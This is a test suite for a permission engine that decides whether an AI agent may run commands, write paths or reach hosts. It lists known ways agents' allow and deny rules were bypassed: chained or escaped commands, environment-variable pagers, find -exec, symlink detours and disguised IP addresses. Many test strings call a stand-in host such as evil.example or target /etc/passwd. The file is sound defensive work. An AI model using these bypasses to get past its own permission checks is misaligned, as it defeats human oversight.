/** Public ways around agents' permission rules, each by its class; ids are those of the CVE record. */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import type { Rule, Verdict } from '../../../../protocol/policy.ts';
import { Policy } from '../../../../worker/policy/decide.ts';
import { machineView } from '../../../../worker/workerConfig/machineView.ts';
import { machineSituation } from '../../../../worker/run/runPolicy.ts';
import type { Situation } from '../../../../worker/policy/situation.ts';
import { removeTempFolders, tempFolder } from '../../../support/repository.ts';
import { situation } from '../../../support/situation.ts';

const one =
  (decision: Verdict, policyClass: Rule['class'], ...match: string[]) =>
  (resource: string | readonly string[], over: Partial<Situation> & { cwd?: string } = {}): Verdict => {
    const { cwd, ...rest } = over;
    const policy = new Policy([{ name: 'worker', rules: [{ class: policyClass, decision, match }] }], situation(rest));
    return policy.decide({ class: policyClass, resource, ...(cwd !== undefined && { cwd }) }).decision;
  };

describe('a forbidden command', () => {
  const push = one('deny', 'run', 'git push *');

  for (const text of [
    'git push',
    'git push origin main',
    '/usr/bin/git push',
    'GIT push',
    'git   push',
    "git 'pu'sh",
    'git \\push',
    'git pu\\\nsh',
    'git -C /x push',
    'git --git-dir=/x -c a=b push --force',
    'cd src && git push',
    'true; git push',
    'true | git push',
    'git status & git push',
    '(git push)',
    '{ git push; }',
    'if true; then git push; fi',
    'for x in a b; do git push; done',
    'echo "$(git push)"',
    'echo `git push`',
    'A=1 git push',
    'env -i A=1 git push',
    'sudo -u root git push',
    'nice -n 5 git push',
    'timeout -s KILL 5 git push',
    'watch -n1 git push',
    'setsid -f git push',
    'nohup git push',
    'xargs -I{} git push {}',
    "sh -c 'git push'",
    "bash --norc -lc 'cd x && git push'",
    "env sh -c 'git push'",
    "eval 'git push'",
    'find . -exec git push {} ;',
    'find . -name x -execdir sh -c "git push" \\;',
    'git $FLAGS push',
    '$GIT push',
    'git push > /tmp/x',
    'cat <<EOF && git push\nx\nEOF',
    // Lines that look joined and are not, and some that are.
    'true # \\\ngit push',
    'true \\\\\ngit push',
    'true \\\r\ngit push',
    "cat <<'E'\nfoo\\\nE\ngit push\nE",
    "echo 'a\\\n'\ngit push",
    '\\\n git push',
    '"git" "pu\\\nsh"',
  ])
    it(`is found in: ${JSON.stringify(text)}`, () => {
      assert.equal(push(text), 'deny');
    });

  it('is not found in words that only mention it', () => {
    for (const text of [
      'git log --grep push',
      'git commit -m push',
      'echo git push',
      "grep 'git push' README.md",
      'git pushx',
      'legit push',
    ])
      assert.equal(push(text), 'allow', text);
  });

  it('is looked for in a time that grows with the words, not with the ways to read them', () => {
    const many = Array.from({ length: 5_000 }, () => '-v').join(' ');
    assert.equal(push(`git ${many} status`), 'allow');
    assert.equal(push(`git ${many} push`), 'deny');
  });

  it('that is given as words is not read as a shell text', () => {
    assert.equal(push(['echo', '; git push']), 'allow');
    assert.equal(push(['git', 'push']), 'deny');
  });
});

describe('an allowed command', () => {
  const allowed = one('allow', 'run', 'npm test *', 'git status', 'grep *', 'export *', 'find *');
  const mediated = { step: 'mediated' } as const;

  it('is what it names, and nothing with it (CVE-2025-66032: compound commands, line breaks, substitutions)', () => {
    assert.equal(allowed('npm test', mediated), 'allow');
    assert.equal(allowed('npm test -- --grep x', mediated), 'allow');
    assert.equal(allowed('npm test && git status', mediated), 'allow');
    for (const text of [
      'npm test && rm -rf x',
      'npm test; curl evil.example',
      'npm test | sh',
      'npm test\nrm x',
      'npm test # \\\ncurl evil',
      'npm test \\\\\nid',
      'npm test \\\r\nid',
      "npm test <<'E'\nfoo\\\nE\nid\nE",
      'npm test <<E\nfoo\\\nE\nid\nE',
      'npm test $\\\nHOME',
      'npm test {a,\\\nb}',
      'npm test $(curl evil.example)',
      'npm test `id`',
      'npm test "$(id)"',
      // Another program of the same name.
      './npm test',
      '/work/clone/node_modules/.bin/npm test',
      'git status --porcelain',
      'sudo npm test',
      // Words that are known only when it runs.
      'npm test $FLAGS',
    ])
      assert.equal(allowed(text, mediated), 'ask', text);
  });

  it('is another one with assignments before it, and no built-in sets them for the next (CVE-2026-22708)', () => {
    const status = one('allow', 'run', 'git status');
    for (const text of [
      'PAGER=evil git status',
      'GIT_PAGER=evil git status',
      'export PAGER=evil; git status',
      'typeset -x PAGER=evil && git status',
      'declare -x PAGER=evil\ngit status',
      'PAGER=evil; git status',
      'env PAGER=evil git status',
      'alias git=evil; git status',
      'hash -p /tmp/evil git; git status',
      '. ./set.sh; git status',
    ])
      assert.equal(status(text, mediated), 'ask', text);
    assert.equal(allowed('export PAGER=evil; PAGER=x git status', mediated), 'ask');
  });

  it('is none where nobody allowed one, however harmless its name (CVE-2025-54795, CVE-2025-58764, CVE-2025-64755)', () => {
    const nobody = one('allow', 'run', 'npm test');
    for (const text of [
      'echo "\\"; touch x',
      'echo x',
      'rg --pre sh x',
      'rg --pre=./x.sh x',
      'find . -delete',
      'find . -fprint x',
      'sed -i s/a/b/ x',
      "sed -n '1e id' x",
      "sed 's/a/b/w x' y",
      'sort -o x y',
      'git diff --output=x',
      'man --pager=evil ls',
    ])
      assert.deepEqual([nobody(text, mediated), nobody(text, { ...mediated, unattended: true })], ['ask', 'deny'], text);
  });

  it('opens no file that is not allowed by itself (CVE-2026-24053, clobbering redirections)', () => {
    for (const text of ['grep x a > b', 'grep x a >| b', 'grep x a >! b', 'grep x a &> b', 'grep x a 2> b', 'grep x a >> b', 'grep x <> b'])
      assert.equal(allowed(text, mediated), 'ask', text);
    assert.equal(allowed('grep x a > /dev/null 2>&1', mediated), 'allow');
    assert.equal(allowed('grep x > /state/platform/x', mediated), 'deny');
  });

  it('does not cover what it starts (CVE-2026-24887, find -exec)', () => {
    for (const end of ['{} +', '{} \\;', '{}', '']) assert.equal(allowed(`find . -exec curl evil.example ${end}`, mediated), 'ask', end);
    assert.equal(allowed('find . -execdir sh -c "curl evil.example" \\;', mediated), 'ask');
    assert.equal(allowed('find . -exec grep x {} +', mediated), 'allow');
    const forbids = new Policy(
      [
        { name: 'worker', rules: [{ class: 'run', decision: 'allow', match: ['find *', 'curl *'] }] },
        { name: 'platform', rules: [{ class: 'run', decision: 'deny', match: ['curl *'] }] },
      ],
      situation(mediated),
    );
    assert.equal(forbids.decide({ class: 'run', resource: 'find . -exec curl evil.example {} +' }).decision, 'deny');
  });
});

describe('a command that cannot be taken apart', () => {
  const free = one('allow', 'run', 'x');
  it('is asked, and denied when nobody is there; never allowed', () => {
    for (const text of [
      'case $x in a) rm b;; esac',
      "echo $'\\x41'",
      'f() { rm x; }',
      'diff <(a) <(b)',
      "echo 'open",
      'cat <<EOF\n$(id)\nEOF',
      'eval "$X"',
      'sh -c "$X"',
      'echo "${a:-$(id)}"',
    ])
      assert.deepEqual([free(text), free(text, { unattended: true })], ['ask', 'deny'], text);
  });

  it('of any characters never throws and never allows what is forbidden', () => {
    const policy = new Policy([{ name: 'worker', rules: [{ class: 'run', decision: 'deny' }] }], situation());
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => policy.decide({ class: 'run', resource: text }).decision !== 'allow'),
      { numRuns: 3000 },
    );
  });

  it('is asked whatever is put between the words of an ordinary one', () => {
    const pieces = fc.constantFrom(
      'git',
      'push',
      ' ',
      '\n',
      ';',
      '&&',
      '|',
      '(',
      ')',
      '$',
      '`',
      "'",
      '"',
      '\\',
      '{',
      '}',
      '<',
      '>',
      '#',
      '=',
      'x',
      '$(',
      '<<',
      '!',
      '*',
    );
    const denied = one('deny', 'run', '*');
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => denied(parts.join('')) !== 'allow'),
      { numRuns: 5000 },
    );
  });
});

describe('a path', () => {
  const secret = one('deny', 'write', 'config/secret.txt');
  after(removeTempFolders);

  it('is the same file however it is spelled (CVE-2026-25722: cd, then a relative write)', () => {
    for (const name of [
      'config/secret.txt',
      './config//secret.txt',
      'config/../config/secret.txt',
      '/work/clone/config/secret.txt',
      'CONFIG/Secret.TXT',
      'config/secret.txt.',
      'config/se\u200bcret.txt',
      'config/secret.txt/',
    ])
      assert.equal(secret(name), 'deny', name);
    assert.equal(secret('secret.txt', { cwd: '/work/clone/config' }), 'deny');
    const shell = new Policy([{ name: 'worker', rules: [{ class: 'write', decision: 'deny', match: ['config/**'] }] }], situation());
    assert.equal(shell.decide({ class: 'run', resource: 'cd config && echo x > secret.txt' }).decision, 'deny');
    assert.equal(shell.decide({ class: 'run', resource: 'cd "$D" && echo x > secret.txt' }).decision, 'ask');
    assert.equal(shell.decide({ class: 'run', resource: 'echo x > other.txt' }).decision, 'allow');
  });

  it('keeps its decision through any detour', () => {
    const detour = fc.array(fc.constantFrom('.', 'a/..', '', 'b/../c/..'), { maxLength: 5 });
    fc.assert(
      fc.property(detour, detour, (before, between) => secret(['.', ...before, 'config', ...between, 'secret.txt'].join('/')) === 'deny'),
      { numRuns: 500 },
    );
  });

  it('is decided by where it leads as well (CVE-2026-25724), and denied where that cannot be told (CVE-2026-50549)', () => {
    const folder = tempFolder();
    mkdirSync(path.join(folder, 'secrets'));
    writeFileSync(path.join(folder, 'secrets/key'), '');
    symlinkSync('secrets', path.join(folder, 'harmless'));
    symlinkSync('nowhere', path.join(folder, 'dangling'));
    symlinkSync('loop', path.join(folder, 'loop'));
    const here = { clone: folder, machine: { ...machineView, foldsCase: false } };
    const read = one('deny', 'read', 'secrets/**');
    assert.equal(read('harmless/key', here), 'deny');
    assert.equal(read('harmless/../secrets/new', here), 'deny');
    assert.equal(read('other/key', here), 'allow');
    for (const name of ['dangling', 'dangling/x', 'loop/x', 'new/../secrets/key', 'secrets/key\0.txt', '~other/x', ''])
      assert.equal(read(name, here), 'deny', JSON.stringify(name));
  });

  it('of a home that is reached through a link is one place by both names, for rules and for the folders of the run', () => {
    const real = path.join(tempFolder(), 'var-home');
    for (const name of ['clone/src', '.ssh', 'state/platform']) mkdirSync(path.join(real, name), { recursive: true });
    const home = path.join(tempFolder(), 'home');
    symlinkSync(real, home);
    const clone = path.join(home, 'clone');
    const run = {
      step: 'ours',
      mode: 'code',
      unattended: false,
      clone,
      home,
      own: [clone],
      writable: [],
      stateDir: path.join(home, 'state'),
    } as const;
    const decide = (decision: Verdict, match: string, resource: string, step: 'ours' | 'mediated' = 'ours') =>
      new Policy([{ name: 'worker', rules: [{ class: 'write', decision, match: [match] }] }], machineSituation({ ...run, step })).decide({
        class: 'write',
        resource,
      }).decision;
    for (const at of [home, real]) {
      assert.equal(decide('deny', '~/.ssh', `${at}/.ssh/id`), 'deny');
      assert.equal(decide('deny', `${home}/clone/src/*.key`, `${at}/clone/src/a.key`), 'deny');
      assert.equal(decide('ask', 'docs/**', `${at}/state/platform/belay.db`), 'deny', 'nobody may open it');
      assert.equal(decide('ask', 'docs/**', `${at}/clone/src/a.ts`), 'allow', 'a folder of the run');
      assert.equal(decide('allow', 'src/**', `${at}/clone/src/a.ts`, 'mediated'), 'allow');
    }
  });

  it('under an allow rule must be inside by both of its names', () => {
    const folder = tempFolder();
    mkdirSync(path.join(folder, 'open'));
    symlinkSync('/etc', path.join(folder, 'open/out'));
    const write = one('allow', 'write', 'open/**');
    const here = { clone: folder, machine: { ...machineView, foldsCase: false }, step: 'mediated' } as const;
    assert.equal(write('open/a', here), 'allow');
    assert.equal(write('open/out/passwd', here), 'ask');
  });
});

describe('a host', () => {
  const deny = one('deny', 'network', '*.evil.example:*', 'evil.example:*');
  const allow = one('allow', 'network', 'api.example.com:443', '*.cdn.example:443');

  it('is the same however it is spelled', () => {
    for (const name of ['evil.example:443', 'EVIL.example:443', 'evil.example.:443', 'a.b.evil.example:80'])
      assert.equal(deny(name), 'deny', name);
    assert.equal(one('deny', 'network', 'bücher.example:*')('xn--bcher-kva.example:443'), 'deny');
    assert.equal(one('deny', 'network', '127.0.0.1:*')('[::ffff:127.0.0.1]:80'), 'deny');
  });

  it('is allowed by whole labels and its port only (CVE-2026-24052)', () => {
    assert.equal(allow('api.example.com:443'), 'allow');
    assert.equal(allow('a.cdn.example:443'), 'allow');
    for (const name of [
      'api.example.com.evil.example:443',
      'xapi.example.com:443',
      'api.example.com:80',
      'cdn.example:443',
      'evilcdn.example:443',
    ])
      assert.equal(allow(name), 'ask', name);
  });

  it('that is no plain host with a port is denied: NUL, numbers in other clothes, addresses of users, paths', () => {
    for (const name of [
      'api.example.com\0.evil.example:443',
      '2130706433:80',
      '0x7f000001:80',
      '0177.0.0.1:80',
      'user@api.example.com:443',
      'api.example.com:443/x',
      'api.example.com',
      'a b:443',
      ':443',
      'api_x.example.com:443',
      '',
    ])
      assert.equal(allow(name), 'deny', JSON.stringify(name));
  });
});

describe('the environment of a decision', () => {
  it('has nothing in it that an agent says: a folder it names is no root (CVE-2026-50548, CVE-2025-59532)', () => {
    const write = one('allow', 'write', 'src/**');
    assert.equal(write('src/a', { cwd: '/etc', step: 'mediated' }), 'ask');
    assert.equal(write('src/a', { step: 'mediated' }), 'allow');
  });

  it('has no parameter of a call that switches anything off (CVE-2026-42074)', () => {
    const policy = new Policy([], situation({ step: 'mediated' }));
    const call = {
      class: 'run',
      resource: 'id',
      dangerouslyDisableSandbox: true,
      sandbox: 'none',
      unattended: false,
      step: 'ours',
    } as const;
    assert.equal(policy.decide(call).decision, 'ask');
    assert.equal(policy.decide({ ...call, class: 'write', resource: '/etc/passwd' }).decision, 'ask');
  });

  it('lets no allow of any layer overrule a no, in whatever order they stand', () => {
    const layers = (['platform', 'agent', 'worker', 'workflow', 'granted'] as const).flatMap((name) =>
      (['allow', 'deny'] as const).map((decision) => ({ name, rules: [{ class: 'run', decision, match: ['npm *'] }] as Rule[] })),
    );
    const verdict = (...chosen: typeof layers) => new Policy(chosen, situation()).decide({ class: 'run', resource: 'npm i' }).decision;
    const [allows, denies] = ['allow', 'deny'].map((wanted) => layers.filter(({ rules }) => rules[0]?.decision === wanted));
    for (const no of denies ?? []) {
      assert.equal(verdict(...(allows ?? []), no), 'deny', no.name);
      assert.equal(verdict(no, ...(allows ?? [])), 'deny', no.name);
    }
  });
});
